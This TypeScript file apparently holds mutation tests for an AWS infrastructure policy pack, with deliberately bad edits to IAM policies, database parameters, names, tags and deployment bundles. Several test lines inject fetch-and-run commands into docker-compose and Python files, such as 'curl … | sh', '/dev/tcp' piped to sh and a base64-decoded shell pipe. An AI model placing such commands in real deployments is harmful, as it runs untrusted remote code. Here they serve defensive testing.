import { Kind, Mutant, MutableStack, option, set } from "../mutant";

/** The edits that the pack accepted from a second reviewer who had not read its rules, with other shapes of each. */

type Values = Record<string, unknown>;

/** Sets a property that no rule judges. */
const unjudged = (kind: Kind, name: string, property: string, value: unknown): Mutant =>
  set("known-properties", kind, name, property, value);

/** Edits a statement of a policy in a way that IAM refuses. */
const refused = (kind: Kind, name: string, sid: string, edit: Values): Mutant => [
  "valid-documents",
  (stack) => stack.statement(kind, name, sid, (one) => ({ ...one, ...edit })),
];

/** Writes the ARN of another policy of the program as a role's boundary. */
const boundary = (role: string, policy: string): Mutant => [
  "boundary-fits",
  (stack) => {
    const { name } = stack.get("policy", policy).inputs as { name: string };
    const own = stack.get("role", role).inputs.permissionsBoundary as string;
    return stack.set("role", role, "permissionsBoundary", own.replace(/[^/]*$/, name));
  },
];

/** Removes a statement of the boundary of instances, or changes it. */
const narrower = (sid: string, edit?: Values): Mutant => [
  "boundary-fits",
  (stack) =>
    stack.statements("policy", "permissions-boundary", (all) =>
      all.flatMap((one) => (one.Sid !== sid ? [one] : edit === undefined ? [] : [{ ...one, ...edit }])),
    ),
];

const fromElsewhere = (Condition: Record<string, Values>): Mutant => [
  "media-from-vpc",
  (stack) =>
    stack.statement("bucketPolicy", "media", "DenyWritesAndListsFromElsewhere", (one) => ({
      ...one,
      Condition: { ...one.Condition, StringNotEquals: {}, ...Condition },
    })),
];

/** Denies CloudWatch to publish, by a condition that holds for its requests. */
const silence = (Condition: Record<string, Values> | undefined, Principal: unknown = "*"): Mutant => [
  "alarms-reach-people",
  (stack) =>
    stack.statements("topicPolicy", "alarms", (all) => [
      ...all,
      { Sid: "Silence", Effect: "Deny", Principal, Action: "sns:Publish", Resource: "*", Condition },
    ]),
];

const parameter = (rule: string, name: string, value: string): Mutant => [
  rule,
  (stack) => {
    const { parameters } = stack.get("parameterGroup", "database").inputs as { parameters: object[] };
    return stack.set("parameterGroup", "database", "parameters", [...parameters, { name, value }]);
  },
];

/** Adds a resource like another one, of the same name. */
const namesake = (kind: Kind, name: string, other: Values = {}): Mutant => [
  "names-unique",
  (stack) => {
    const { type, inputs } = stack.get(kind, name);
    return stack.add(type, "namesake", { ...structuredClone(inputs), ...other });
  },
];

/** Gives a resource the name of another one. */
const renamed = (kind: Kind, name: string, to: string, property = "name"): Mutant => [
  "names-unique",
  (stack) => stack.set(kind, name, property, stack.get(kind, to).inputs[property]),
];

const scheduled = (options: Values): Mutant => [
  "environment-values",
  (stack) => {
    const settings = stack.get("environment", "web").inputs.settings as object[];
    for (const [name, value] of Object.entries(options))
      settings.push({ namespace: "aws:autoscaling:scheduledaction", name, value, resource: "Night" });
  },
];

/** Adds a line to a file of a bundle. */
const line = (bundle: string, file: string, text: string): Mutant => [
  "objects-in-artifacts",
  (stack) => {
    const { source } = stack.get("object", bundle).inputs as {
      source: { assets: Record<string, { text: string }> };
    };
    const asset = source.assets[file];
    if (asset === undefined) throw new Error(`the bundle has no ${file}`);
    asset.text += text;
  },
];

const PYTHON = "first-version-python-bundle";

/** Adds an entry to the parameter that the deploy tool reads. */
const inParameter = (entry: Values): Mutant => [
  "no-secret-in-inputs",
  (stack) => {
    const { insecureValue } = stack.get("parameter", "deployment").inputs as { insecureValue: string };
    const value = { ...(JSON.parse(insecureValue) as object), ...entry };
    return stack.set("parameter", "deployment", "insecureValue", JSON.stringify(value));
  },
];

const tag = (kind: Kind, name: string, key: string, value: string): Mutant => [
  "tag-limits",
  (stack) => Object.assign(stack.get(kind, name).inputs.tags as object, { [key]: value }),
];

const writer = (role: string): Mutant => [
  "static-write-protected",
  (stack) => {
    const arn = (stack.get("role", role).inputs.permissionsBoundary as string).replace(/:policy\/.*$/, "");
    const name = stack.get("role", role).inputs.name as string;
    return stack.statement("bucketPolicy", "static", "OnlyDeployersWrite", (one) => {
      const roles = one.Condition?.ArnNotEquals?.["aws:PrincipalArn"] as string[];
      return {
        ...one,
        Condition: { ArnNotEquals: { "aws:PrincipalArn": [...roles, `${arn}:role/${name}`] } },
      };
    });
  },
];

export const secondReview: Mutant[] = [
  // A closed world of properties
  unjudged("logging", "media", "expectedBucketOwner", "999999999999"),
  unjudged("database", "database", "blueGreenUpdate", { enabled: true }),
  unjudged("database", "database", "optionGroupName", "another"),
  unjudged("database", "database", "allowMajorVersionUpgrade", true),
  unjudged("database", "database", "applyImmediately", "true"),
  unjudged("database", "database", "passwordWo", "x"),
  unjudged("endpoint", "network-s3", "policy", '{"Version":"2012-10-17","Statement":[]}'),
  unjudged("redis", "enketo-main", "networkType", "ipv6"),
  unjudged("redis", "enketo-main", "applyImmediately", true),
  unjudged("version", "enketo", "forceDelete", true),
  unjudged("subnet", "network-private-0", "ipv6CidrBlock", "2001:db8::/64"),
  unjudged("vpc", "network", "assignGeneratedIpv6CidrBlock", true),
  unjudged("ingress", "database-from-web-5432", "cidrIpv6", "2001:db8::/32"),
  unjudged("topic", "alarms", "httpSuccessFeedbackRoleArn", "arn:aws:iam::123456789012:role/x"),
  unjudged("bucket", "media", "grants", [{ type: "Group", permissions: ["READ"] }]),
  unjudged("role", "web", "managedPolicyArns", ["arn:aws:iam::aws:policy/PowerUserAccess"]),
  unjudged("eip", "network-nat-0", "instance", "i-0123456789abcdef0"),
  unjudged("listener", "web-redirect-to-https", "routingHttpResponseServerEnabled", true),
  unjudged("record", "web", "healthCheckId", "00000000-0000-0000-0000-000000000000"),

  // Policies that IAM refuses
  refused("rolePolicy", "enketo", "StreamLogs", { Effect: "allow" }),
  refused("rolePolicy", "web", "StreamLogs", { Effect: "DENY" }),
  refused("rolePolicy", "web", "StreamLogs", { Effect: undefined }),
  refused("bucketPolicy", "media", "DenyPlainHttp", { Effect: "deny" }),
  refused("bucketPolicy", "media", "DenyPlainHttp", { Conditions: {} }),
  refused("rolePolicy", "worker", "UseMedia", { action: "s3:*" }),

  // Roles that their boundary stops
  boundary("worker", "service-permissions-boundary"),
  boundary("web", "service-permissions-boundary"),
  boundary("network-flow-logs", "permissions-boundary"),
  narrower("Media"),
  narrower("Media", { Action: "s3:GetObject" }),
  narrower("OwnSecrets", {
    Resource: "arn:aws:ssm:eu-central-1:123456789012:parameter/iaso-secrets/other/*",
  }),
  narrower("Tasks", { Effect: "Deny" }),

  // Statements that deny those who need access
  fromElsewhere({ StringNotEqualsIfExists: { "aws:SourceVpc": "*" } }),
  fromElsewhere({ StringNotLike: { "aws:SourceVpc": "vpc-0*" } }),
  fromElsewhere({ Null: { "aws:SourceVpc": "false" } }),
  silence({ Bool: { "aws:ViaAWSService": "false" } }),
  silence({ Bool: { "aws:PrincipalIsAWSService": "true" } }),
  silence({ StringEquals: { "aws:PrincipalServiceName": "cloudwatch.amazonaws.com" } }),
  silence(undefined, { Service: "cloudwatch.amazonaws.com" }),

  // Parameters of the database
  parameter("database-parameters", "log_parameter_max_length_on_error", "-1"),
  parameter("database-parameters", "log_transaction_sample_rate", "1"),
  parameter("database-parameters", "log_min_duration_sample", "0"),
  parameter("database-parameters", "log_min_error_statement", "debug5"),
  parameter("database-parameters", "auto_explain.log_min_duration", "0"),
  parameter("database-parameters", "auto_explain.log_parameter_max_length", "-1"),
  parameter("database-parameters", "pgaudit.log", "ddl, read"),
  parameter("database-parameters", "pgaudit.log_parameter", "1"),
  parameter("database-parameters", "debug_print_parse", "1"),
  parameter("database-parameters", "rds.logical_replication", "1"),
  parameter("database-parameters", "shared_preload_libraries", "pg_stat_statements,decoder_raw"),
  parameter("database-parameters", "ssl_max_protocol_version", "TLSv1.1"),
  parameter("database-values", "max_connections", "20"),
  parameter("alarms-work", "max_connections", "200"),
  set("alarms-work", "alarm", "database-connections", "threshold", 4900),
  set("database-values", "database", "database", "storageType", "io1"),
  [
    "database-values",
    (stack) =>
      stack.set("database", "database", "storageType", "io2").set("database", "database", "iops", 100),
  ],
  set("database-values", "database", "database", "engineLifecycleSupport", "disabled"),
  [
    "database-values",
    (stack) =>
      stack
        .set("database", "database", "instanceClass", "db.t4g.micro")
        .option("web", "autoscaling:asg/MaxSize", "40"),
  ],

  // Names
  renamed("alarm", "web-health", "worker-health"),
  renamed("queue", "tasks", "tasks-dead-letters"),
  renamed("role", "web", "worker"),
  renamed("bucket", "media", "static", "bucket"),
  namesake("role", "web"),
  namesake("logGroup", "network-flow-logs"),
  namesake("rolePolicy", "web", { policy: "{}" }),
  namesake("object", "enketo-bundle", { source: {} }),
  namesake("version", "enketo", { key: "other.zip" }),
  namesake("association", "network-public-0"),
  namesake("route", "network-public-internet", { gatewayId: "igw-0123456789abcdef0" }),
  namesake("parameter", "deployment", { insecureValue: "{}" }),

  // Options
  option(
    "options-decided",
    "web",
    "elasticbeanstalk:healthreporting:system/EnhancedHealthAuthEnabled",
    "false",
  ),
  option("options-decided", "worker", "elasticbeanstalk:xray/XRayEnabled", "true"),
  option("options-decided", "web", "elasticbeanstalk:command/DeploymentPolicy", "TrafficSplitting"),
  scheduled({ MinSize: "0", MaxSize: "0", Recurrence: "0 20 * * *" }),
  scheduled({ MaxSize: "0", StartTime: "2026-12-24T20:00:00Z" }),
  scheduled({ DesiredCapacity: "0" }),
  scheduled({ MinSize: "" }),
  scheduled({ MinSize: "5", MaxSize: "2" }),
  set("queue-values", "queue", "tasks", "delaySeconds", 900),
  set("queue-values", "queue", "tasks", "delaySeconds", "300"),
  set("queue-values", "queue", "tasks", "kmsDataKeyReusePeriodSeconds", 86_400),

  // Code from elsewhere in a bundle
  line("enketo-bundle", "docker-compose.yml", "    entrypoint: sh -c 'curl -s x.example.net | sh'\n"),
  line("enketo-bundle", "docker-compose.yml", "    entrypoint: bash -c 'cat </dev/tcp/192.0.2.1/80 | sh'\n"),
  line("enketo-bundle", "docker-compose.yml", "    command: npx --yes other\n"),
  line("enketo-bundle", "docker-compose.yml", "    command: sh -c 'echo Y3VybA== | base64 -d | sh'\n"),
  line(PYTHON, "Procfile", "other: python3 other.py\n"),
  line(PYTHON, "Procfile", "other: sh server.py\n"),
  line(PYTHON, "Procfile", "other: python3 server.py; wget example.net\n"),
  line(PYTHON, "server.py", "import os; os.system('wget -O- example.net | sh')\n"),
  line(PYTHON, "server.py", "urlopen('https://example.net/code')\n"),

  // Secrets in JSON text, and tags that AWS refuses
  inParameter({ password: "hunter2" }),
  inParameter({ database: { adminToken: "short" } }),
  inParameter({ note: "AKIAIOSFODNN7EXAMPLE" }),
  tag("bucket", "media", "aws:x", "1"),
  tag("queue", "tasks", "AWS:createdBy", "me"),
  tag("database", "database", "note", "x".repeat(257)),
  tag("database", "database", "n".repeat(129), "x"),
  [
    "tag-limits",
    (stack) =>
      Object.assign(
        stack.get("bucket", "media").inputs.tags as object,
        Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`t${String(index)}`, "x"])),
      ),
  ],
];

/** The same for parts that only prod has. */
export const secondReviewOfProd: Mutant[] = [
  unjudged("key", "encryption-key", "bypassPolicyLockoutSafetyCheck", true),
  unjudged("backupVault", "backup", "forceDestroy", true),
  unjudged("distribution", "static", "customErrorResponses", [{ errorCode: 403, responseCode: 200 }]),
  unjudged("distribution", "static", "webAclId", "arn:aws:wafv2:us-east-1:123456789012:global/webacl/x/1"),
  boundary("worker", "backup-boundary"),
  boundary("web", "backup-boundary"),
  narrower("Encryption"),
  writer("web"),
  writer("worker"),
  writer("enketo"),
  set("alarms-work", "alarm", "database-connections", "threshold", 950),
  namesake("backupVault", "backup"),
  namesake("keyAlias", "encryption-key", { targetKeyId: "other" }),
  [
    "dns-own-names",
    (stack: MutableStack) => {
      const { inputs } = stack.get("record", "static-A");
      inputs.aliases = (inputs.aliases as object[]).map((one) => ({ ...one, evaluateTargetHealth: "true" }));
    },
  ],
  [
    "lifecycle-whole",
    (stack: MutableStack) => {
      const { rules } = stack.get("lifecycle", "artifacts").inputs as { rules: Values[] };
      Object.assign(rules[0] ?? {}, { transitions: [{ days: 90, storageClass: "GLACIER" }] });
    },
  ],
  [
    "backup-plan-daily",
    (stack: MutableStack) => {
      const { rules } = stack.get("backupPlan", "backup").inputs as { rules: Values[] };
      Object.assign(rules[0] ?? {}, { schedule: "cron(0 5/12 1 * ? *)" });
    },
  ],
];
